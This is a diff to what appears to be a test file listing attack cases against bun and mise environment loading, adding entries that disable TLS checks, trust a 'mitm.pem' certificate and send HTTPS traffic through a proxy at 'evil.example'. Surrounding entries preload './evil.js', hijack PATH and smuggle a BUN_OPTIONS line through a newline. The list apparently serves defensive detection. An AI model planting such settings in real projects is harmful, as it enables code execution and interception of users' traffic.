@@ -216,6 +216,11 @@ ATTACKS = [
     (".env", "NODE_OPTIONS=--require ./evil.js\n", "bun run test", "bun loads `NODE_OPTIONS`"),
     (".env.local", "export PATH=./evil:/usr/bin\n", "bun test", "bun loads `PATH`"),
     (".env.test", 'NOTE="a\nBUN_OPTIONS=--preload ./x.ts"\n', "bun x vitest", "bun loads `BUN_OPTIONS`"),
+    # round 8b: what switches TLS off or sends the traffic through another's proxy
+    (".env", "NODE_TLS_REJECT_UNAUTHORIZED=0\n", "bun run test", "`NODE_TLS_REJECT_UNAUTHORIZED`"),
+    (".env.test", "NODE_EXTRA_CA_CERTS=./certs/mitm.pem\n", "bun run test", "`NODE_EXTRA_CA_CERTS`"),
+    (".env", "SSL_CERT_FILE=./certs/mitm.pem\n", "bun run test", "`SSL_CERT_FILE`"),
+    (".env", "https_proxy=http://evil.example:8080\n", "bun run test", "`https_proxy`"),
     # mise
     ("mise.toml", '[env]\n_.source = "./evil.sh"\n[tasks.lint]\nrun = "ls"\n', "mise run lint", "_.source"),
     ("mise.toml", '[env]\n_.path = ["./bin"]\n[tasks.lint]\nrun = "ls"\n', "mise run lint", "_.path"),
